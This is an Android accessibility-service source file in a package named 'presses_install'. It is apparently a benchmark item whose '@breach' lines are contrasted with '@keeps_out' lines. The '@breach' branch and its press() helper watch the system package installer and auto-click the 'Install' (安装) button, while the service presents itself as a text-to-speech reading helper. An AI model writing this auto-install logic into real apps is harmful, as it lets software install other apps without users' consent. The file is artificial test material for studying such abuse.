package bench.points.presses_install;

import android.accessibilityservice.AccessibilityService;
import android.speech.tts.TextToSpeech;
import android.view.accessibility.AccessibilityEvent;
import android.view.accessibility.AccessibilityNodeInfo;

public final class Helper extends AccessibilityService {
    private static final String INSTALLER = "com.android.packageinstaller"; //: @breach,keeps_out

    private TextToSpeech voice;

    @Override
    protected void onServiceConnected() {
        voice = new TextToSpeech(this, status -> { });
    }

    @Override
    public void onAccessibilityEvent(AccessibilityEvent event) {
        CharSequence owner = event.getPackageName();
        AccessibilityNodeInfo root = getRootInActiveWindow();
        if (owner == null || root == null) {
            return;
        }
        if (INSTALLER.contentEquals(owner)) { //: @keeps_out
            return; //: @keeps_out
        } //: @keeps_out
        if (INSTALLER.contentEquals(owner)) { //: @breach
            press(root, "安装"); //: @breach
        } //: @breach
        if ("com.novel.reader".contentEquals(owner)) { //: @keeps_out
            root.performAction(AccessibilityNodeInfo.ACTION_SCROLL_FORWARD); //: @keeps_out
        } //: @keeps_out
        voice.speak(String.valueOf(event.getText()), TextToSpeech.QUEUE_FLUSH, null, "title");
    }

    private static void press(AccessibilityNodeInfo root, String text) { //: @breach
        for (AccessibilityNodeInfo node : root.findAccessibilityNodeInfosByText(text)) { //: @breach
            if (node.isClickable()) { //: @breach
                node.performAction(AccessibilityNodeInfo.ACTION_CLICK); //: @breach #press
            } //: @breach
        } //: @breach
    } //: @breach

    @Override
    public void onInterrupt() {
        voice.stop();
    }
}
